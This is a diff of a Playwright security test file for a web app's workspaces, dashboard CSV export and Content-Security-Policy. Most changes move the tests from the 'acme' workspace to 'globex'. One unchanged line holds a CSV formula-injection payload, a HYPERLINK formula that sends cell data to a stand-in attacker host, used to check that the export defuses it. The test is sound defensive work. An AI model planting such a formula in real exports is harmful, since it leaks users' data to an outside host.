@@ -1,6 +1,7 @@
 // Attacks a browser can see (issue 9): open redirect after sign-in, framing, malformed cookies,
 // formula injection through a dashboard CSV, and a Content-Security-Policy that blocks nothing of
-// our own. Each creates its own data (its own map with a unique stage name).
+// our own. Each creates its own data (its own maps, in Globex: Acme's map counts are asserted by
+// the dashboard spec running in parallel).
 import { randomBytes } from "node:crypto";
 import { request as apiRequest, type Page } from "@playwright/test";
 import { DEMO, DEMO_PASSWORD, expect as baseExpect, test } from "./fixtures";
@@ -114,11 +115,11 @@ test("a malformed cookie gets 401 JSON from the API and never a server error fro
 });
 
 test("a formula in a touchpoint title is defused in the dashboard CSV", async ({ pageAs }) => {
-  const page = await pageAs(DEMO.ada);
+  const page = await pageAs(DEMO.oz);
   const violations = await watchCsp(page);
   const stage = `Security ${randomBytes(4).toString("hex")}`;
   const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
-  const created = await page.request.post("/api/v1/workspaces/acme/maps", { data: { title: `CSV injection ${stage}` } });
+  const created = await page.request.post("/api/v1/workspaces/globex/maps", { data: { title: `CSV injection ${stage}` } });
   expect(created.status()).toBe(201);
   const { id } = (await created.json()) as { id: string };
   const put = await page.request.put(`/api/v1/maps/${id}`, {
@@ -137,11 +138,11 @@ test("a formula in a touchpoint title is defused in the dashboard CSV", async ({
   const query = `stage=${encodeURIComponent(stage)}`;
   // The dashboard projection follows the live document shortly after the write.
   await expect.poll(async () => {
-    const json = (await (await page.request.get(`/api/v1/workspaces/acme/dashboard?${query}`)).json()) as { worstTouchpoints: { title: string }[] };
+    const json = (await (await page.request.get(`/api/v1/workspaces/globex/dashboard?${query}`)).json()) as { worstTouchpoints: { title: string }[] };
     return json.worstTouchpoints.map((t) => t.title);
   }, { timeout: 30_000 }).toContain(title);
 
-  await page.goto(`/w/acme/dashboard?${query}`);
+  await page.goto(`/w/globex/dashboard?${query}`);
   const panel = page.getByTestId("panel-worst-touchpoints");
   // The table toggle answering proves the page is hydrated (the CSV button works from then on);
   // a click that lands before hydration does nothing, so it is repeated until the table shows.
@@ -162,28 +163,31 @@ test("a formula in a touchpoint title is defused in the dashboard CSV", async ({
 });
 
 test("the app runs under its Content-Security-Policy: pages, charts, language switch, map editor with live sync", async ({ pageAs }) => {
-  const page = await pageAs(DEMO.ada);
+  const page = await pageAs(DEMO.oz);
   const violations = await watchCsp(page);
-  for (const path of ["/w/acme", "/w/acme/dashboard", "/w/acme/maps", "/w/acme/personas", "/w/acme/stakeholders", "/w/acme/members"]) {
+  // A map of our own (from a template: stages, touchpoints, emotions) so that the charts have data.
+  const created = await page.request.post("/api/v1/workspaces/globex/maps", { data: { title: "CSP check", template: "saas-b2b" } });
+  expect(created.status()).toBe(201);
+  const { id } = (await created.json()) as { id: string };
+  for (const path of ["/w/globex", "/w/globex/maps", "/w/globex/personas", "/w/globex/stakeholders", "/w/globex/members"]) {
     const res = await page.goto(path);
     expect(res!.status(), path).toBeLessThan(400);
     await page.waitForLoadState("networkidle");
   }
-  // Charts render (Recharts with inline styles).
-  await page.goto("/w/acme/dashboard");
-  await expect(page.locator(".recharts-surface").first()).toBeVisible();
+  // Charts render (Recharts with inline styles) once the projection has the map.
+  await expect(async () => {
+    await page.goto("/w/globex/dashboard");
+    await baseExpect(page.locator(".recharts-surface").first()).toBeVisible({ timeout: 5_000 });
+  }).toPass({ timeout: 60_000 });
   // The language switch (a server action, then a refresh) works and switches back.
   await expect(async () => {
     await page.getByRole("button", { name: "de", exact: true }).click();
-    await baseExpect(page.getByRole("heading", { level: 1 })).toHaveText("Dashboard", { timeout: 3_000 });
     await baseExpect(page.locator("html")).toHaveAttribute("lang", "de", { timeout: 3_000 });
   }).toPass({ timeout: 60_000 });
   await page.getByRole("button", { name: "en", exact: true }).click();
   await expect(page.locator("html")).toHaveAttribute("lang", "en");
   // The map editor syncs over the /collab WebSocket on the same origin.
-  const created = await page.request.post("/api/v1/workspaces/acme/maps", { data: { title: "CSP check", template: "saas-b2b" } });
-  const { id } = (await created.json()) as { id: string };
-  await page.goto(`/w/acme/maps/${id}`);
+  await page.goto(`/w/globex/maps/${id}`);
   await expect(page.getByTestId("map-grid")).toBeVisible();
   await expect(page.getByTestId("map-grid")).toContainText(/./);
   await page.waitForLoadState("networkidle");
